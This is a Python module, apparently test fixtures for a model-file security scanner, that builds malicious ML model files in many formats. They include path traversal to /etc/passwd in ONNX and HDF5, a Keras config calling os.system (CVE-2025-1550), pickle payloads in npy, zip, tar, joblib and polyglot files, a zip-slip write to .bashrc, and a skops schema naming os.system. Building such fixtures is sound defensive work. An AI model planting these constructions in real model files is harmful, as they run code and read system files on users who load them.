"""What the bad twins put into files of each format; each function takes the place of the file."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

from benchmarks.scan.ordinary import other_formats as other
from benchmarks.scan.ordinary.payloads import CALLS, ESCAPE, stream


def external_data(place: Path) -> None:
    """A tensor whose bytes are said to lie outside the repo."""
    import onnx

    model = onnx.load(str(place), load_external_data=False)
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    del tensor.external_data[:]
    tensor.external_data.add(key="location", value="../../../../etc/passwd")
    place.write_bytes(model.SerializeToString())


def object_array(place: Path) -> None:
    """An .npy of dtype object whose pickle is the payload; into an .npz as a member."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    body = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + stream()
    if place.suffix == ".npy":
        place.write_bytes(body)
    else:
        with zipfile.ZipFile(place, "a") as archive:
            archive.writestr("extra.npy", body)


def keras_module(place: Path) -> None:
    """CVE-2025-1550: a layer whose class is a function of a module outside Keras."""
    evil = '{"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}'
    text = (
        '{"module": "keras", "class_name": "Functional", "registered_name": "Functional", "config": {'
        '"name": "f", "layers": '
        '[{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "arguments": {"command": "id"}, '
        '"function": ' + evil + '}, "name": "l", "inbound_nodes": []}], "input_layers": [], "output_layers": []}}'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(place) as old, zipfile.ZipFile(out, "w") as new:
        for member in old.infolist():
            new.writestr(member.filename, text if member.filename == "config.json" else old.read(member))
    place.write_bytes(out.getvalue())


def hdf5_external(place: Path) -> None:
    """An external link out of the file."""
    import h5py

    with h5py.File(place, "r+") as file:
        file["weights_of_another"] = h5py.ExternalLink("../../../../etc/passwd", "/")


def saved_model_writes(place: Path) -> None:
    """A SavedModel with WriteFile, ReadFile, or a PyFunc in its graph."""
    if not other.copied("keras/writes/saved_model.pb", place):
        node = b"\x0a\x05write\x12\x09WriteFile"
        graph = b"\x0a" + bytes([len(node)]) + node
        meta = b"\x12" + bytes([len(graph)]) + graph
        place.write_bytes(b"\x08\x01\x12" + bytes([len(meta)]) + meta)


def torch_script_file(place: Path) -> None:
    """A TorchScript module whose forward maps (and makes) a file."""
    import torch

    class Net(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + torch.from_file("/tmp/hubclean-must-not-be-there", True, 4)

    torch.jit.script(Net()).save(str(place))


def bad_zip(place: Path) -> None:
    with zipfile.ZipFile(place, "a") as archive:
        archive.writestr("../../.bashrc", "echo x\n")


def zip_with_pickle(place: Path) -> None:
    with zipfile.ZipFile(place, "a") as archive:
        archive.writestr("cache/data.pkl", stream("exec"))


def tar_gz(place: Path) -> None:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w:gz") as archive:
        info = tarfile.TarInfo("state/optimizer.pkl")
        info.size = len(stream())
        archive.addfile(info, io.BytesIO(stream()))
    place.write_bytes(body.getvalue())


def joblib_payload(place: Path) -> None:
    import zlib

    body = b"\x80\x03" + CALLS["os-system"] + b"."
    place.write_bytes(zlib.compress(body) if "compressed" in place.name else body)


def skops_payload(place: Path) -> None:
    """A skops file whose schema names a function of a module that runs commands."""
    import json

    schema = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "FunctionNode",
        "__id__": 1,
        "protocol": 1,
        "content": {"module_path": "os", "function": "system"},
        "_skops_version": "0.11",
    }
    with zipfile.ZipFile(place, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))


def chat_gguf(place: Path) -> None:
    other.gguf(place, ESCAPE)


def keras_lambda(place: Path) -> None:
    other.keras_file(place, with_lambda=True)


def keras_lambda_weights(place: Path) -> None:
    """A whole model with a Lambda where tf_model.h5 has weights alone."""
    keras_lambda(place.with_name("lambda.h5"))
    place.with_name("lambda.h5").replace(place)


def module_with_code(place: Path) -> None:
    """modules.json names a class of a file that comes with it."""
    place.write_text('[{"idx": 0, "name": "0", "path": "0_CLIPModel", "type": "modeling_evil.Evil"}]')
    place.with_name("modeling_evil.py").write_text("import os\n\nos.system('id')\n")


def polyglot(place: Path) -> None:
    """A torch zip behind a picture."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", stream("eval"))
    place.write_bytes(place.read_bytes() + out.getvalue())
